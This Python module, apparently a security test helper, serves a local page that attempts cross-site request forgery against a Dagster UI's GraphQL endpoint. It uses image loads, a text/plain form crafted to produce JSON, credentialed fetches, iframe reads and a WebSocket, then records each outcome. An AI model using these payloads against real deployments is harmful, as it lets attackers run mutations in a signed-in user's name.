"""A page of another origin that attacks the Dagster UI from the browser of a signed-in person."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>attacking</title><body><script>
const target = TARGET, mutation = MUTATION;
const query = '{runsOrError {... on Runs {results {runId}}}}';
const address = target + '/graphql?query=';
const tried = {};

const image = () => new Promise(done => {
  const element = new Image();
  element.onload = element.onerror = event => done(event.type);
  element.src = address + encodeURIComponent(mutation);
});
const form = () => new Promise(done => {
  // The name and the value of the one field make the JSON: {"query": "...", "padding": "="}
  document.body.insertAdjacentHTML('beforeend', '<iframe name="f"></iframe><form method="post" target="f" '
    + 'enctype="text/plain" action="' + target + '/graphql"><input></form>');
  const field = document.querySelector('input');
  field.name = '{"query": ' + JSON.stringify(mutation) + ', "padding": "';
  field.value = '"}';
  document.querySelector('iframe').onload = () => done('sent');
  document.forms[0].submit();
});
const fetched = (how, path = '/graphql') => fetch(target + path, {credentials: 'include', ...how})
  .then(answer => answer.type === 'opaque' ? 'opaque' : answer.text(), error => 'refused');
const posted = (text, type, mode) =>
  fetched({method: 'POST', mode, headers: {'Content-Type': type}, body: JSON.stringify({query: text})});
const framed = () => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.onload = () => {
    try { done(frame.contentWindow.document.body.innerText) } catch (error) { done('refused') }
  };
  frame.src = target + '/runs';
  document.body.append(frame);
});
const socket = () => new Promise(done => {
  const opened = new WebSocket(target.replace('http', 'ws') + '/graphql', 'graphql-ws');
  opened.onopen = () => opened.send('{"type": "connection_init"}');
  opened.onmessage = event => done(event.data);
  opened.onclose = () => done('refused');
});
(async () => {
  tried.image = await image();
  tried.form = await form();
  tried.text = await posted(mutation, 'text/plain', 'no-cors');
  tried.json = await posted(mutation, 'application/json', 'cors');
  tried.read = await posted(query, 'application/json', 'cors');
  tried.read_by_address = await fetched({}, '/graphql?query=' + encodeURIComponent(query));
  tried.read_page = await fetched({}, '/runs');
  tried.frame = await framed();
  tried.socket = await socket();
  document.body.insertAdjacentHTML('beforeend', '<pre>' + JSON.stringify(tried) + '</pre>');
})();
</script>"""


@contextmanager
def serving(target: str, mutation: str) -> Iterator[int]:
    """Serves the page on a port of this machine; it tries the GraphQL mutation and to read what is there.

    What became of each attempt is JSON in its `pre` element.
    """
    page = PAGE.replace("TARGET", json.dumps(target)).replace("MUTATION", json.dumps(mutation)).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
